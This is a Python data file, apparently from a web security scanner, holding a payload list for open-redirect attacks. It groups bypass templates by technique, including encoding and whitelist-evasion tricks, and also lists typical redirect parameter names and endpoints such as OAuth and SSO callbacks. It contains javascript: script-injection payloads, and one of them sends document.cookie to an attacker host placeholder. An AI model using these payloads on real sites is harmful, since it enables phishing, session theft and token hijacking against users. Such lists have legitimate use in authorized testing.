"""Open redirect: a redirect target that leaves the site through a parser disagreement (protocol-relative
and backslash forms, user-info and fragment confusions, encoded slashes and tabs, scheme tricks).
(technique, template); {host} the attacker's host, {trusted} the site's own or a partner host.
Templates starting with "=" are sent as written (already percent-encoded)."""

OPEN_REDIRECT = [
    ("protocol_relative", "//{host}"), ("protocol_relative", "//{host}/{w}"), ("protocol_relative", "///{host}"),
    ("protocol_relative", "////{host}/{w}"), ("protocol_relative", "=//{host}/%2e%2e"), ("protocol_relative", "//{host}?{w}"),
    ("protocol_relative", "/.//{host}"), ("protocol_relative", "//{host}:443/{w}"), ("protocol_relative", "//{host}//{trusted}"),
    ("backslash", "/\\{host}"), ("backslash", "\\/\\/{host}"), ("backslash", "/\\/{host}"), ("backslash", "\\\\{host}"),
    ("backslash", "https:/\\{host}"), ("backslash", "/\\\\{host}/{w}"), ("backslash", "\\/{host}"), ("backslash", "https:\\\\{host}"),
    ("userinfo", "https://{trusted}@{host}"), ("userinfo", "https://{trusted}@{host}/{w}"), ("userinfo", "https://{host}\\@{trusted}"),
    ("userinfo", "https://{host}#@{trusted}"), ("userinfo", "https://{host}?@{trusted}"), ("userinfo", "//{trusted}@{host}"),
    ("userinfo", "https://{trusted}:{w}@{host}"), ("userinfo", "=https://{host}%2F@{trusted}"), ("userinfo", "=https://{trusted}%40{host}"),
    ("userinfo", "=https://{host}%ff@{trusted}"), ("userinfo", "=http://{trusted}%00@{host}"),
    ("scheme", "https:{host}"), ("scheme", "http:/{host}"), ("scheme", "javascript:alert(document.domain)"),
    ("scheme", "javascript://{trusted}/\nalert(document.cookie)"), ("scheme", "JaVaScRiPt:alert(1)"), ("scheme", "data:text/html;base64,{b64}"),
    ("scheme", "=java%0ascript:alert(1)"), ("scheme", "=java%09script:alert(1)"), ("scheme", "http:{host}/{w}"), ("scheme", "https:/{host}"),
    ("scheme", "javascript:fetch('//{host}/?'+document.cookie)"), ("scheme", "=%20javascript:alert(1)"),
    ("encoded", "=/%2F%2F{host}"), ("encoded", "=%09//{host}"), ("encoded", "=/%09/{host}"), ("encoded", "=%2F%2F{host}%2F"),
    ("encoded", "=/%5C{host}"), ("encoded", "=%5C%5C{host}"), ("encoded", "=https%3A%2F%2F{host}"), ("encoded", "=%252F%252F{host}"),
    ("encoded", "=http:%5C%5C{host}"), ("encoded", "=//{host}%2523@{trusted}"), ("encoded", "=/%2F{host}%2F%2E%2E"),
    ("encoded", "=%2F%5C{host}"), ("encoded", "=//{host}%E3%80%82{w}"), ("encoded", "=/%0D/{host}"), ("encoded", "=%68%74%74%70%73://{host}"),
    ("whitelist_bypass", "https://{trusted}.{host}"), ("whitelist_bypass", "https://{host}/{trusted}"), ("whitelist_bypass", "https://{host}?.{trusted}"),
    ("whitelist_bypass", "{trusted}.{host}"), ("whitelist_bypass", "https://{host}/.{trusted}"), ("whitelist_bypass", "//{host}#{trusted}"),
    ("whitelist_bypass", "https://{host}/?{trusted}"), ("whitelist_bypass", "https://{trusted}{host}"), ("whitelist_bypass", "https://{host}\\.{trusted}"),
    ("whitelist_bypass", "https://{trusted}.{host}/{w}"), ("whitelist_bypass", "https://{host}&{trusted}"),
]
REDIRECT_NAMES = ["next", "return_to", "redirect_uri", "url", "continue", "returnUrl", "RelayState", "dest", "redir", "forward",
                  "target", "success_url", "ReturnUrl", "r", "to", "goto", "redirect", "callback", "backurl", "checkout_url",
                  "destination", "return", "out", "location"]
REDIRECT_ENDPOINTS = ["/login", "/logout", "/auth/callback", "/sso", "/redirect", "/out", "/account/switch", "/oauth/authorize",
                      "/signin", "/link", "/r", "/go", "/exit", "/auth/logout", "/session/end", "/track/click"]
